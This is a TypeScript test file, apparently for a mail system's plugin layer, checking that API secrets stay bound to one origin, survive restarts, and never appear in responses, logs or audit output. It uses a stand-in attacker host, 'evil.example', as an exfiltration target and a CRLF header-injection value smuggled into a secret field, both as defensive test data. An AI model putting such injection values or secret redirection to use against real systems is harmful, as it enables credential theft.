import assert from "node:assert/strict";
import { rmSync } from "node:fs";
import { test } from "node:test";
import { Hono } from "hono";
import { pluginRoutes } from "../../core/http/plugin-routes.ts";
import { problemOf } from "../../core/http/problem.ts";
import { limits } from "../../core/kernel/limits.ts";
import type { Postern } from "../../core/main.ts";
import type { Grants } from "../../core/plugins/plugin-record.ts";
import { testFolder } from "../open-postern.ts";
import { world } from "./capabilities/recorded-world.ts";
import { packed } from "./digest.ts";
import { decided, pluginKernel, viewOf } from "./plugin-kernel.ts";

const key = "sk-live/0123456789";
const asks = (origin: string) => ({
  "message.read": { fields: ["envelope"], mail: "all", reason: "To see what is new." },
  "secret.use": {
    secrets: [{ name: "api", title: "API key", origin, header: "x-api-key" }],
    via: "direct",
    reason: "To ask the service.",
  },
});
const here = "https://api.example.org";
const code = `var plugin = { default: { hooks: { async "message.observe"() {} } } };`;

async function installed(postern: Postern, origin = here, version = "1.0.0"): Promise<void> {
  await postern.plugins.installs.inspect(packed({ code, asks: asks(origin), version }));
}

const stateOf = (postern: Postern) => postern.plugins.detail("digest").secrets;

test("a secret is kept for its one place, also through a restart and the loss of the database", async (t) => {
  const clock = { now: () => Date.UTC(2026, 5, 1) };
  const folder = testFolder(t);
  const first = await folder.open({ clock });
  await installed(first);
  assert.deepEqual(stateOf(first), [{ name: "api", title: "API key", origin: here, setAt: null }]);
  await first.plugins.installs.setSecret("digest", "api", "an-older-key");
  await first.plugins.installs.setSecret("digest", "api", key);
  assert.equal(stateOf(first)[0]?.setAt, clock.now());
  await first.close("stopping");
  for (const suffix of ["", "-wal", "-shm"]) rmSync(`${folder.paths.database}${suffix}`, { force: true });
  const second = await folder.open({ clock });
  assert.equal(second.reader.plugins.secret("digest", "api", here), key);
  assert.equal(second.reader.plugins.secret("digest", "api", "https://evil.example"), null);
  await second.plugins.installs.setSecret("digest", "api", null);
  assert.equal(second.reader.plugins.secret("digest", "api", here), null);
  assert.equal(stateOf(second)[0]?.setAt, null);
});

test("an update that would send a secret elsewhere does not get it", async (t) => {
  const postern = await testFolder(t).open();
  await installed(postern);
  await postern.plugins.installs.setSecret("digest", "api", key);
  const evil = "https://evil.example";
  await installed(postern, evil, "1.1.0");
  await postern.plugins.installs.agreeToUpdate("digest", asks(evil) as unknown as Grants);
  assert.deepEqual(
    stateOf(postern).map(({ origin, setAt }) => [origin, setAt]),
    [[evil, null]],
  );
  assert.equal(postern.reader.plugins.secret("digest", "api", evil), null);
});

test("whoever takes a removed plugin's id finds no secret of it, whether its data stayed or not", async (t) => {
  const postern = await testFolder(t).open();
  for (const withData of [false, true]) {
    await installed(postern);
    await postern.plugins.installs.setSecret("digest", "api", key);
    await postern.plugins.installs.remove("digest", withData);
    await installed(postern);
    assert.equal(stateOf(postern)[0]?.setAt, null);
    assert.equal(postern.reader.plugins.secret("digest", "api", here), null);
  }
});

test("over the API a secret goes in and never comes out, and what is none is refused without repeating it", async (t) => {
  const postern = await testFolder(t).open();
  await installed(postern);
  const app = new Hono();
  app.onError((error) => problemOf(error));
  app.route(
    "/",
    pluginRoutes(() => postern),
  );
  const told: string[] = [];
  const ask = async (method: string, path: string, body?: object): Promise<{ code?: string; problem?: string }> => {
    const response = await app.request(path, {
      method,
      headers: { "Content-Type": "application/json" },
      ...(body && { body: JSON.stringify(body) }),
    });
    told.push(await response.clone().text());
    return (await response.json()) as { code?: string };
  };
  const at = "/plugins/digest/secrets/api";
  const { pluginSecretCharsMin: min, pluginSecretCharsMax: max } = limits;
  for (const value of ["x".repeat(min), "x".repeat(max), key])
    assert.equal((await ask("PUT", at, { value })).code, undefined);
  const bad = [
    "y".repeat(min - 1),
    "y".repeat(max + 1),
    `${key}\r\nHost: evil.example`,
    `${key} `,
    `é${key}`,
    "y".repeat(max * 2 + 1),
  ];
  for (const value of bad) assert.equal((await ask("PUT", at, { value })).code, "BAD_REQUEST");
  assert.equal((await ask("PUT", at, {})).code, "BAD_REQUEST");
  assert.equal((await ask("PUT", at, { value: key, more: 1 })).code, "BAD_REQUEST");
  assert.equal((await ask("PUT", "/plugins/digest/secrets/other", { value: key })).code, "NOT_FOUND");
  assert.equal((await ask("PUT", "/plugins/nobody/secrets/api", { value: key })).code, "NOT_FOUND");
  for (const path of ["/plugins", "/plugins/digest", "/plugins/audit"]) await ask("GET", path);
  assert.equal(postern.reader.plugins.secret("digest", "api", here), key, "what was refused changed nothing");
  for (const text of told) assert.equal(/sk-live|x{8}|y{7}/.test(text), false, text);
  await ask("DELETE", at);
  assert.equal(stateOf(postern)[0]?.setAt, null);
});

test("a plugin in its runner uses the secret without seeing it, and nothing of it is logged or audited", async (t) => {
  const { asked, net } = world({
    [`${here}/good`]: { body: Buffer.from("welcome") },
    [`${here}/mirror`]: { body: Buffer.from(`you are ${key}`) },
  });
  const main = `export default { hooks: { async "message.observe"(observed: any, host: any) {
    const said = [];
    for (const { view } of observed) {
      try {
        const { body } = await host.secrets.fetch({ secret: "api", url: view.subject });
        said.push(body);
      } catch (error: any) { said.push(error.code + " " + error.message); }
    }
    await host.store.write([{ key: "said", value: JSON.stringify(said) }]);
  } } };`;
  const manifest = {
    hooks: { "message.observe": {} },
    capabilities: { ...asks(here), "store.own": { megabytes: 1, reason: "For a test." } },
  };
  const secrets = {
    read: (_plugin: string, name: string, origin: string) => (name === "api" && origin === here ? key : null),
  };
  const { plugins, store, logged } = await pluginKernel(t, { user: { main, manifest } }, { net, secrets });
  const urls = [`${here}/good`, `${here}/mirror`, "https://evil.example/"];
  assert.deepEqual(await plugins.observe(urls.map((subject) => decided(viewOf("1", { subject }), null))), {
    accepted: true,
  });
  const said = JSON.parse(Buffer.from((await store.read("user", "said")) ?? "").toString()) as string[];
  assert.equal(said[0], "welcome");
  assert.match(said[1] ?? "", /^PLUGIN_DENIED /);
  assert.match(said[2] ?? "", /^PLUGIN_DENIED /);
  assert.deepEqual(
    asked.map(({ url, headers }) => [url, headers]),
    [
      [`${here}/good`, [["x-api-key", key]]],
      [`${here}/mirror`, [["x-api-key", key]]],
    ],
  );
  await plugins.flushAudit();
  assert.equal(JSON.stringify([said, logged, plugins.detail("user")]).includes("sk-live"), false);
});
